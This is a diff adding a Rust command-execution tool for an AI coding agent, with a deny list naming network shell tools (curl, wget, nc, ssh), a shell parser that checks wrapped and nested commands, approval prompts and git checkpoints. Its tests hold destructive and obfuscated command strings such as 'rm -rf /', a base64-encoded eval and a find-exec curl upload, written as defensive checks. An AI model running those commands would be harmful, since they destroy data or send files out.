@@ -0,0 +1,919 @@
+use std::{fmt::Display, path::Path, process::Stdio, sync::LazyLock, time::Duration};
+
+use async_trait::async_trait;
+use domain::models::tools::{Tool, ToolContext, ToolDefinition, ToolError, ToolOutput};
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+use tokio::process::Command;
+use tracing::warn;
+
+use super::write_file::{ask, can_ask};
+use crate::git::checkpoint;
+
+const DEFAULT_TIMEOUT: Duration = Duration::from_secs(60);
+const MAX_TIMEOUT: Duration = Duration::from_secs(600);
+// Keeps a chatty command from flooding the conversation.
+const MAX_OUTPUT_BYTES: usize = 20_000;
+const DENIED: &[&str] = &[
+    "rm -r",
+    "rm --recursive",
+    "find -delete",
+    "sudo",
+    "su",
+    "mkfs",
+    "dd",
+    "shutdown",
+    "reboot",
+    "curl",
+    "wget",
+    "nc",
+    "ncat",
+    "ssh",
+    "scp",
+    "rsync",
+    "ftp",
+    "telnet",
+];
+// Commands that change or delete files, checkpointed before they run.
+const RISKY: &[&str] = &[
+    "rm",
+    "rmdir",
+    "mv",
+    "cp",
+    "truncate",
+    "shred",
+    "unlink",
+    "dd",
+    "patch",
+    "sed -i",
+    "perl -i",
+    "find -delete",
+    "git reset",
+    "git checkout",
+    "git clean",
+    "git restore",
+    "git switch",
+    "git rebase",
+    "git merge",
+    "git pull",
+    "git stash",
+    "git am",
+    "git apply",
+    "git cherry-pick",
+    "git revert",
+    "git rm",
+    "git mv",
+];
+
+// Output redirected into a file, but not into another descriptor or /dev/null.
+static REDIRECT: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?:^|[^0-9&>])>>?\s*([^\s&>|;]+)").unwrap());
+
+#[derive(Debug)]
+pub struct RunCommandTool {
+    name: String,
+    description: String,
+    input_schema: RunCommandInput,
+    tool_definition: ToolDefinition,
+    auto_approve: bool,
+    policy: CommandPolicy,
+    timeout: Duration,
+    checkpoints: bool,
+}
+
+#[derive(Debug, Serialize, Deserialize)]
+pub struct RunCommandInput {
+    input: Input,
+}
+
+#[derive(Debug, Serialize, Deserialize)]
+pub struct Input {
+    pub command: String,
+    pub timeout_secs: Option<u64>,
+}
+
+// Which commands the tool may run. A rule is a command prefix compared word by
+// word, so "rm -rf" matches `rm -rf target` but not `rm file`. Every command
+// of a pipeline or list is checked, including the commands run by wrappers
+// such as `bash -c`, `xargs`, `sudo` or `find -exec`. Rules match the program
+// a command runs, not its arguments, so `grep -rn sudo src` is fine. Denied
+// rules win over allowed ones. An empty allowlist allows anything not denied.
+#[derive(Debug, Clone, Default)]
+pub struct CommandPolicy {
+    allowed: Vec<Vec<String>>,
+    denied: Vec<Vec<String>>,
+}
+
+impl CommandPolicy {
+    pub fn builtin() -> Self {
+        Self::default().with_denied(DENIED)
+    }
+
+    pub fn with_allowed(mut self, rules: &[&str]) -> Self {
+        self.allowed
+            .extend(rules.iter().filter_map(|rule| rule_words(rule)));
+        self
+    }
+
+    pub fn with_denied(mut self, rules: &[&str]) -> Self {
+        self.denied
+            .extend(rules.iter().filter_map(|rule| rule_words(rule)));
+        self
+    }
+
+    pub fn check(&self, command: &str) -> Result<(), String> {
+        for segment in parse(command).segments {
+            if let Some(rule) = self.denied.iter().find(|rule| matches_rule(&segment, rule)) {
+                return Err(format!(
+                    "`{}` is denied by the rule `{}`",
+                    segment.join(" "),
+                    rule.join(" ")
+                ));
+            }
+            if !self.allowed.is_empty()
+                && !self.allowed.iter().any(|rule| matches_rule(&segment, rule))
+            {
+                return Err(format!("`{}` is not in the allowlist", segment.join(" ")));
+            }
+        }
+        Ok(())
+    }
+}
+
+// Why the policy cannot tell what a command runs, e.g. `bash -c "$CMD"`,
+// `eval "$(...)"` or `python -c`. Such commands need the user's approval even when
+// auto-approved.
+pub fn unchecked(command: &str) -> Option<String> {
+    parse(command).unchecked.into_iter().next()
+}
+
+// Whether a command may change or delete files, so it is worth a checkpoint.
+pub fn is_risky(command: &str) -> bool {
+    let risky = RISKY
+        .iter()
+        .filter_map(|rule| rule_words(rule))
+        .collect::<Vec<Vec<String>>>();
+    let redirects = REDIRECT
+        .captures_iter(command)
+        .any(|captures| &captures[1] != "/dev/null");
+
+    redirects
+        || parse(command)
+            .segments
+            .iter()
+            .any(|segment| risky.iter().any(|rule| matches_rule(segment, rule)))
+}
+
+fn rule_words(rule: &str) -> Option<Vec<String>> {
+    let words = rule
+        .split_whitespace()
+        .map(str::to_string)
+        .collect::<Vec<String>>();
+    (!words.is_empty()).then_some(words)
+}
+
+// Short flags may be combined or reordered, so `-fr` and `-r -f` both match
+// the rule `-rf`, and `-R` is the same as `-r`. Longer single dash options
+// such as `-delete` match exactly.
+fn matches_rule(segment: &[String], rule: &[String]) -> bool {
+    let Some((program, flags)) = rule.split_first() else {
+        return false;
+    };
+    if segment.first() != Some(program) {
+        return false;
+    }
+
+    let args = &segment[1..];
+    flags.iter().all(|flag| match flag.strip_prefix('-') {
+        Some(short) if !short.starts_with('-') && short.len() <= 2 => short.chars().all(|c| {
+            args.iter().any(|arg| {
+                arg.starts_with('-')
+                    && !arg.starts_with("--")
+                    && (arg.contains(c) || (c == 'r' && arg.contains('R')))
+            })
+        }),
+        _ => args.contains(flag),
+    })
+}
+
+// Options taking a value, so the value is not mistaken for the command.
+const ENV_VALUES: &[&str] = &["-u", "--unset", "-C", "--chdir"];
+const SUDO_VALUES: &[&str] = &[
+    "-u",
+    "--user",
+    "-g",
+    "--group",
+    "-C",
+    "--close-from",
+    "-D",
+    "--chdir",
+    "-h",
+    "--host",
+    "-p",
+    "--prompt",
+    "-r",
+    "--role",
+    "-t",
+    "--type",
+    "-T",
+    "--command-timeout",
+    "-U",
+    "--other-user",
+];
+const XARGS_VALUES: &[&str] = &[
+    "-a",
+    "--arg-file",
+    "-d",
+    "--delimiter",
+    "-E",
+    "-I",
+    "-L",
+    "-n",
+    "--max-args",
+    "-P",
+    "--max-procs",
+    "-s",
+    "--max-chars",
+];
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh"];
+// Interpreters and the options that make them run code given on the command
+// line, which may do anything the denied commands do.
+const INTERPRETERS: &[(&str, &[&str])] = &[
+    ("python", &["-c"]),
+    ("perl", &["-e", "-E"]),
+    ("ruby", &["-e"]),
+    ("node", &["-e", "--eval", "-p", "--print"]),
+];
+// `find` options that run a command, up to a `;` or `+`.
+const FIND_EXEC: &[&str] = &["-exec", "-execdir", "-ok", "-okdir"];
+// Deeper nesting than this is not worth following.
+const MAX_DEPTH: usize = 8;
+
+#[derive(Debug, Default)]
+struct Parsed {
+    segments: Vec<Vec<String>>,
+    unchecked: Vec<String>,
+}
+
+fn parse(command: &str) -> Parsed {
+    let mut parsed = Parsed::default();
+    parse_into(command, 0, &mut parsed);
+    parsed
+}
+
+fn parse_into(command: &str, depth: usize, parsed: &mut Parsed) {
+    if depth > MAX_DEPTH {
+        parsed
+            .unchecked
+            .push("the command nests too many shells to check".to_string());
+        return;
+    }
+    for words in split(command, depth, parsed) {
+        expand(&words, depth, parsed);
+    }
+}
+
+// Adds the command of a segment and the commands its wrappers run. Leading
+// variable assignments and `env`, `nohup` and the like are skipped so they
+// cannot hide the program, and `/bin/rm` is still rm.
+fn expand(words: &[String], depth: usize, parsed: &mut Parsed) {
+    let mut rest = words;
+    loop {
+        match rest.first().map(String::as_str) {
+            Some(word) if is_assignment(word) => rest = &rest[1..],
+            Some("command" | "exec" | "nohup" | "time") => rest = skip_options(&rest[1..], &[]),
+            Some("env") => {
+                // `env -S` splits its argument into the command to run.
+                let split = rest
+                    .iter()
+                    .position(|word| word == "-S" || word == "--split-string");
+                if let Some(index) = split {
+                    let payload = rest[index + 1..].join(" ");
+                    nested(&payload, "env -S", depth, parsed);
+                    return;
+                }
+                rest = skip_options(&rest[1..], ENV_VALUES);
+            }
+            _ => break,
+        }
+    }
+    let Some(raw) = rest.first() else {
+        return;
+    };
+    if raw.contains('$') {
+        parsed.unchecked.push(format!(
+            "`{}` decides which program runs only when it runs",
+            raw
+        ));
+    }
+    let segment = rest
+        .iter()
+        .map(|word| program(word))
+        .collect::<Vec<String>>();
+    let first = &segment[0];
+
+    let args = &rest[1..];
+    match first.as_str() {
+        shell if SHELLS.contains(&shell) => match shell_payload(args) {
+            Ok(Some(payload)) => nested(payload, shell, depth, parsed),
+            Ok(None) => {}
+            Err(reason) => parsed.unchecked.push(format!("`{}` {}", shell, reason)),
+        },
+        "eval" => nested(&args.join(" "), "eval", depth, parsed),
+        "xargs" => expand(skip_options(args, XARGS_VALUES), depth, parsed),
+        "find" => {
+            let mut args = args;
+            while let Some(start) = args
+                .iter()
+                .position(|arg| FIND_EXEC.contains(&arg.as_str()))
+            {
+                let command = &args[start + 1..];
+                let end = command
+                    .iter()
+                    .position(|arg| arg == ";" || arg == "+")
+                    .unwrap_or(command.len());
+                expand(&command[..end], depth, parsed);
+                args = &command[end..];
+            }
+        }
+        interpreter if inline_code(interpreter, args) => parsed.unchecked.push(format!(
+            "`{}` runs code given on the command line, which can't be checked",
+            interpreter
+        )),
+        "sudo" | "doas" => expand(skip_options(args, SUDO_VALUES), depth, parsed),
+        _ => {}
+    }
+    parsed.segments.push(segment);
+}
+
+// Checks the command a wrapper runs from a string. Expansions in it are only
+// known when it runs, so they need the user's approval.
+fn nested(payload: &str, wrapper: &str, depth: usize, parsed: &mut Parsed) {
+    if payload.contains(['$', '`']) {
+        parsed.unchecked.push(format!(
+            "`{}` runs `{}`, which expands to a command only known when it runs",
+            wrapper, payload
+        ));
+    }
+    parse_into(payload, depth + 1, parsed);
+}
+
+// The command string of `bash -c <command>`. Ok(None) when the shell runs a
+// script file instead, an error when it reads its commands from stdin.
+fn shell_payload(args: &[String]) -> Result<Option<&str>, String> {
+    let mut command = false;
+    let mut index = 0;
+    while let Some(arg) = args.get(index) {
+        index += 1;
+        match arg.as_str() {
+            "-o" | "+o" | "-O" | "+O" => index += 1,
+            "--" => break,
+            option if option.starts_with("--") => {}
+            option if option.starts_with(['-', '+']) => command |= option.contains('c'),
+            _ => {
+                index -= 1;
+                break;
+            }
+        }
+    }
+
+    match (command, args.get(index)) {
+        (true, Some(payload)) => Ok(Some(payload)),
+        (true, None) => Err("runs a command passed to it later".to_string()),
+        (false, Some(_)) => Ok(None),
+        (false, None) => Err("runs commands read from its input".to_string()),
+    }
+}
+
+// Whether an interpreter such as `python -c` or `perl -ne` runs code from its
+// arguments. Short options may be combined, as in `-ne`.
+fn inline_code(interpreter: &str, args: &[String]) -> bool {
+    let Some((_, options)) = INTERPRETERS.iter().find(|(name, _)| {
+        interpreter
+            .strip_prefix(name)
+            .is_some_and(|version| version.chars().all(|c| c.is_ascii_digit() || c == '.'))
+    }) else {
+        return false;
+    };
+
+    args.iter()
+        .take_while(|arg| arg.starts_with('-') && *arg != "--")
+        .any(|arg| {
+            options
+                .iter()
+                .any(|option| match option.strip_prefix("--") {
+                    Some(_) => arg == option || arg.starts_with(&format!("{}=", option)),
+                    None => !arg.starts_with("--") && arg[1..].contains(&option[1..]),
+                })
+        })
+}
+
+fn skip_options<'a>(args: &'a [String], with_values: &[&str]) -> &'a [String] {
+    let mut index = 0;
+    while let Some(arg) = args.get(index) {
+        if arg == "--" {
+            return &args[index + 1..];
+        }
+        if !arg.starts_with('-') || arg == "-" {
+            break;
+        }
+        index += if with_values.contains(&arg.as_str()) {
+            2
+        } else {
+            1
+        };
+    }
+    args.get(index..).unwrap_or_default()
+}
+
+fn is_assignment(word: &str) -> bool {
+    word.split_once('=').is_some_and(|(name, _)| {
+        !name.is_empty()
+            && !name.starts_with(|c: char| c.is_ascii_digit())
+            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+    })
+}
+
+fn program(word: &str) -> String {
+    match word.rsplit_once('/') {
+        Some((_, program)) if !program.is_empty() => program.to_string(),
+        _ => word.to_string(),
+    }
+}
+
+// Splits a shell command into the words of each simple command, through
+// pipes, lists and subshells, with quotes and escapes removed the way the
+// shell does. Command substitutions are parsed as commands of their own and
+// leave `$(...)` in the word they stand for.
+fn split(command: &str, depth: usize, parsed: &mut Parsed) -> Vec<Vec<String>> {
+    let chars = command.chars().collect::<Vec<char>>();
+    let mut segments = vec![];
+    let mut words = vec![];
+    let mut word: Option<String> = None;
+
+    let mut index = 0;
+    while let Some(&c) = chars.get(index) {
+        index += 1;
+        match c {
+            '\'' => {
+                let end = find(&chars, index, '\'');
+                word.get_or_insert_default().extend(&chars[index..end]);
+                index = end + 1;
+            }
+            '"' => {
+                let word = word.get_or_insert_default();
+                while let Some(&c) = chars.get(index) {
+                    index += 1;
+                    match c {
+                        '"' => break,
+                        '\\' if matches!(chars.get(index), Some('"' | '\\' | '$' | '`')) => {
+                            word.push(chars[index]);
+                            index += 1;
+                        }
+                        '$' if chars.get(index) == Some(&'(') => {
+                            index = substitution(&chars, index + 1, ')', depth, parsed);
+                            word.push_str("$(...)");
+                        }
+                        '`' => {
+                            index = substitution(&chars, index, '`', depth, parsed);
+                            word.push_str("$(...)");
+                        }
+                        c => word.push(c),
+                    }
+                }
+            }
+            '\\' => {
+                if let Some(&next) = chars.get(index)
+                    && next != '\n'
+                {
+                    word.get_or_insert_default().push(next);
+                }
+                index += 1;
+            }
+            '$' if chars.get(index) == Some(&'(') => {
+                index = substitution(&chars, index + 1, ')', depth, parsed);
+                word.get_or_insert_default().push_str("$(...)");
+            }
+            '`' => {
+                index = substitution(&chars, index, '`', depth, parsed);
+                word.get_or_insert_default().push_str("$(...)");
+            }
+            ';' | '&' | '|' | '\n' | '(' | ')' => {
+                words.extend(word.take());
+                segments.push(std::mem::take(&mut words));
+            }
+            c if c.is_whitespace() => words.extend(word.take()),
+            c => word.get_or_insert_default().push(c),
+        }
+    }
+    words.extend(word);
+    segments.push(words);
+
+    // `{ ...; }` groups commands like a subshell does.
+    segments
+        .into_iter()
+        .map(|words| {
+            words
+                .into_iter()
+                .filter(|word| word != "{" && word != "}")
+                .collect::<Vec<String>>()
+        })
+        .filter(|words| !words.is_empty())
+        .collect()
+}
+
+// Parses the command substitution starting at `start`, right after `$(` or a
+// backtick, and returns where the text after it starts.
+fn substitution(
+    chars: &[char],
+    start: usize,
+    close: char,
+    depth: usize,
+    parsed: &mut Parsed,
+) -> usize {
+    let end = if close == '`' {
+        find(chars, start, '`')
+    } else {
+        let mut open = 1;
+        let mut end = start;
+        while let Some(&c) = chars.get(end) {
+            match c {
+                '(' => open += 1,
+                ')' if open == 1 => break,
+                ')' => open -= 1,
+                _ => {}
+            }
+            end += 1;
+        }
+        end
+    };
+
+    let inner = chars[start..end.min(chars.len())]
+        .iter()
+        .collect::<String>();
+    parse_into(&inner, depth + 1, parsed);
+    end + 1
+}
+
+fn find(chars: &[char], start: usize, c: char) -> usize {
+    chars[start.min(chars.len())..]
+        .iter()
+        .position(|&other| other == c)
+        .map_or(chars.len(), |position| start + position)
+}
+
+impl Display for RunCommandTool {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let input_schema = serde_json::to_string(&self.input_schema).unwrap();
+        let name = self.name.clone();
+        let description = self.description.clone();
+
+        let about = format!(
+            "Name: {}\nDescription: {}\n:{}",
+            name, description, input_schema
+        );
+
+        write!(f, "{}", about)
+    }
+}
+
+impl RunCommandTool {
+    pub fn new(name: &str, description: &str) -> Self {
+        Self {
+            name: name.to_string(),
+            description: description.to_string(),
+            input_schema: RunCommandInput {
+                input: Input {
+                    command: "".to_string(),
+                    timeout_secs: None,
+                },
+            },
+            tool_definition: ToolDefinition {
+                name: name.to_string(),
+                description: description.to_string(),
+                parameters: serde_json::from_str(
+                    r#"{
+                        "type": "object",
+                        "properties": {
+                            "command": {
+                                "type": "string",
+                                "description": "The shell command to run with bash in the workspace"
+                            },
+                            "timeout_secs": {
+                                "type": "integer",
+                                "description": "Seconds before the command is killed. Defaults to 60, at most 600."
+                            }
+                        },
+                        "required": ["command"]
+                    }"#,
+                )
+                .unwrap(),
+                examples: vec![],
+            },
+            auto_approve: false,
+            policy: CommandPolicy::builtin(),
+            timeout: DEFAULT_TIMEOUT,
+            checkpoints: false,
+        }
+    }
+
+    // Runs without asking, for non-interactive use. The policy still applies.
+    pub fn with_auto_approve(mut self, auto_approve: bool) -> Self {
+        self.auto_approve = auto_approve;
+        self
+    }
+
+    pub fn with_policy(mut self, policy: CommandPolicy) -> Self {
+        self.policy = policy;
+        self
+    }
+
+    pub fn with_timeout(mut self, timeout: Duration) -> Self {
+        self.timeout = timeout;
+        self
+    }
+
+    // Snapshots the working tree with git before commands that change files,
+    // so /restore-checkpoint can undo them.
+    pub fn with_checkpoints(mut self, checkpoints: bool) -> Self {
+        self.checkpoints = checkpoints;
+        self
+    }
+
+    pub fn input_schema(&self) -> &RunCommandInput {
+        &self.input_schema
+    }
+
+    // Commands the policy cannot see through are asked about even when
+    // auto-approved.
+    fn confirm(&self, command: &str, unchecked: Option<&str>) -> Result<bool, ToolError> {
+        if self.auto_approve && unchecked.is_none() {
+            return Ok(true);
+        }
+        if !can_ask() {
+            return Ok(false);
+        }
+
+        println!("\x1b[33mbash> {}\x1b[0m", command);
+        if let Some(reason) = unchecked {
+            println!("\x1b[31mvoo cannot check this command: {}\x1b[0m", reason);
+        }
+        ask("run this command?")
+    }
+}
+
+// Kills the process group of a command when it times out or is cancelled, so
+// the processes it started in the background go with it.
+struct ProcessGroup(Option<u32>);
+
+impl ProcessGroup {
+    fn disarm(mut self) {
+        self.0 = None;
+    }
+}
+
+impl Drop for ProcessGroup {
+    fn drop(&mut self) {
+        #[cfg(unix)]
+        if let Some(id) = self.0.and_then(|id| i32::try_from(id).ok()) {
+            // SAFETY: kill has no memory effects, the group is the one the
+            // command was spawned into.
+            unsafe {
+                libc::kill(-id, libc::SIGKILL);
+            }
+        }
+    }
+}
+
+fn truncate(mut text: String) -> String {
+    if text.len() > MAX_OUTPUT_BYTES {
+        let end = text.floor_char_boundary(MAX_OUTPUT_BYTES);
+        text.truncate(end);
+        text.push_str("\n[output truncated]");
+    }
+    text
+}
+
+#[async_trait]
+impl Tool for RunCommandTool {
+    async fn exec(&self, input: Value) -> Result<ToolOutput, ToolError> {
+        self.exec_with_context(input, &ToolContext::default()).await
+    }
+
+    async fn exec_with_context(
+        &self,
+        input: Value,
+        context: &ToolContext,
+    ) -> Result<ToolOutput, ToolError> {
+        let input = serde_json::from_value::<Input>(input)
+            .map_err(|e| ToolError::ToolError(e.to_string()))?;
+
+        if let Err(reason) = self.policy.check(&input.command) {
+            return Ok(ToolOutput::error(format!(
+                "The command was not run: {}",
+                reason
+            )));
+        }
+        let unchecked = unchecked(&input.command);
+        if !self.confirm(&input.command, unchecked.as_deref())? {
+            return Ok(ToolOutput::error(match unchecked {
+                Some(reason) => format!(
+                    "The command was not run: {}, so it needs the user's approval",
+                    reason
+                ),
+                None => "The user declined to run the command".to_string(),
+            }));
+        }
+
+        let mut note = None;
+        if self.checkpoints && is_risky(&input.command) {
+            match checkpoint(Path::new("."), &format!("before: {}", input.command)).await {
+                Ok(checkpoint) => {
+                    note = Some(format!(
+                        "Saved checkpoint {} before running, /restore-checkpoint undoes the command",
+                        checkpoint.id
+                    ))
+                }
+                Err(e) => warn!("[VOO] no checkpoint before running the command: {}", e),
+            }
+        }
+
+        let timeout = input
+            .timeout_secs
+            .map(Duration::from_secs)
+            .unwrap_or(self.timeout)
+            .min(MAX_TIMEOUT);
+        let mut command = Command::new("bash");
+        command
+            .arg("-c")
+            .arg(&input.command)
+            .envs(&context.env)
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .kill_on_drop(true);
+        #[cfg(unix)]
+        command.process_group(0);
+        let child = command
+            .spawn()
+            .map_err(|e| ToolError::ToolError(e.to_string()))?;
+        let group = ProcessGroup(child.id());
+
+        let output = match tokio::time::timeout(timeout, child.wait_with_output()).await {
+            Ok(output) => {
+                group.disarm();
+                output.map_err(|e| ToolError::ToolError(e.to_string()))?
+            }
+            Err(_) => {
+                return Ok(ToolOutput::error(format!(
+                    "The command was killed after {} seconds",
+                    timeout.as_secs()
+                )));
+            }
+        };
+
+        let exit_code = match output.status.code() {
+            Some(code) => code.to_string(),
+            None => "none (killed by a signal)".to_string(),
+        };
+        let mut result = format!(
+            "Exit code: {}\nstdout:\n{}\nstderr:\n{}",
+            exit_code,
+            truncate(
+                String::from_utf8_lossy(&output.stdout)
+                    .trim_end()
+                    .to_string()
+            ),
+            truncate(
+                String::from_utf8_lossy(&output.stderr)
+                    .trim_end()
+                    .to_string()
+            )
+        );
+        if let Some(note) = note {
+            result.push('\n');
+            result.push_str(&note);
+        }
+
+        Ok(ToolOutput::text(result))
+    }
+
+    fn name(&self) -> &str {
+        &self.name
+    }
+
+    fn description(&self) -> &str {
+        &self.description
+    }
+
+    fn tool_definition(&self) -> &ToolDefinition {
+        &self.tool_definition
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+
+    #[test]
+    fn test_policy() {
+        let policy = CommandPolicy::builtin();
+        assert!(policy.check("cargo test && git status | head").is_ok());
+        assert!(policy.check("rm file.txt").is_ok());
+        assert!(policy.check("cargo build && rm -fr target").is_err());
+        assert!(policy.check("FOO=1 /usr/bin/curl example.com").is_err());
+        assert!(policy.check("echo $(wget -qO- example.com)").is_err());
+
+        assert!(policy.check(r#"bash -c "rm -rf /""#).is_err());
+        assert!(policy.check("sh -ec 'cd / && rm -rf *'").is_err());
+        assert!(policy.check("eval rm -rf /").is_err());
+        assert!(policy.check("ls | xargs -n1 rm -rf").is_err());
+        assert!(policy.check("env -i rm -rf /").is_err());
+        assert!(policy.check("find . -delete").is_err());
+        assert!(policy.check("find . -exec rm -R {} \\;").is_err());
+        assert!(policy.check("{ rm -R /; }").is_err());
+        assert!(policy.check(r#"git commit -m "fix su login""#).is_ok());
+        assert!(policy.check("grep -rn sudo src/").is_ok());
+        assert!(policy.check("cargo add curl").is_ok());
+        assert!(policy.check("git log --author dd").is_ok());
+        assert!(policy.check("FOO=1 command sudo ls").is_err());
+        assert!(
+            policy
+                .check("find . -name '*.sh' -exec curl -T {} host +")
+                .is_err()
+        );
+
+        assert_eq!(unchecked("cargo test | bash -c 'grep ok'"), None);
+        assert!(unchecked(r#"bash -c "$CMD""#).is_some());
+        assert!(unchecked(r#"eval "$(echo cm0gLXJm | base64 -d)""#).is_some());
+        assert!(unchecked("cat script | sh").is_some());
+        assert!(unchecked("$(echo rm) -rf /").is_some());
+        assert!(unchecked("printf 'ls' | xargs sh -c").is_some());
+        assert!(unchecked("python3 -c 'import os; os.system(\"rm -rf /\")'").is_some());
+        assert!(unchecked("perl -ne 'print if /TODO/' main.rs").is_some());
+        assert!(unchecked("node --eval 'require(\"fs\").rmSync(\"src\")'").is_some());
+        assert!(unchecked("ruby -e 'puts 1'").is_some());
+        assert_eq!(unchecked("python3 scripts/gen.py -c config.toml"), None);
+        assert_eq!(unchecked("node --version"), None);
+
+        let policy = policy.with_allowed(&["cargo", "git status"]);
+        assert!(policy.check("cargo test; git status").is_ok());
+        assert!(policy.check("git push").is_err());
+        assert!(policy.check("bash -c 'cargo test'").is_err());
+
+        assert!(is_risky("cargo fmt && git checkout -- src"));
+        assert!(is_risky("sed -ie 's/a/b/' main.rs"));
+        assert!(is_risky("echo hi > notes.txt"));
+        assert!(!is_risky("cargo test 2>&1 | tail > /dev/null"));
+        assert!(!is_risky("git status; sed 's/a/b/' main.rs"));
+    }
+
+    #[tokio::test]
+    async fn test_run_command() {
+        let tool = RunCommandTool::new("run_command", "").with_auto_approve(true);
+        let context = ToolContext {
+            env: [("GREETING".to_string(), "hi".to_string())].into(),
+        };
+
+        let output = tool
+            .exec_with_context(
+                json!({"command": "echo $GREETING; echo oops >&2; exit 3"}),
+                &context,
+            )
+            .await
+            .unwrap();
+        assert_eq!(
+            output,
+            ToolOutput::text("Exit code: 3\nstdout:\nhi\nstderr:\noops")
+        );
+
+        let output = tool
+            .exec(json!({"command": "sleep 5", "timeout_secs": 0}))
+            .await
+            .unwrap();
+        assert_eq!(
+            output,
+            ToolOutput::error("The command was killed after 0 seconds")
+        );
+
+        let dir = tempfile::tempdir().unwrap();
+        let pid = dir.path().join("pid");
+        let command = format!("sleep 30 & echo $! > {}; wait", pid.display());
+        let output = tool
+            .exec(json!({"command": command, "timeout_secs": 1}))
+            .await
+            .unwrap();
+        assert_eq!(
+            output,
+            ToolOutput::error("The command was killed after 1 seconds")
+        );
+        let pid = std::fs::read_to_string(&pid).unwrap();
+        tokio::time::sleep(Duration::from_millis(200)).await;
+        // Gone, or a zombie nobody has reaped yet.
+        let stat = std::fs::read_to_string(format!("/proc/{}/stat", pid.trim())).ok();
+        assert!(stat.is_none_or(|stat| stat.contains(") Z ")));
+    }
+}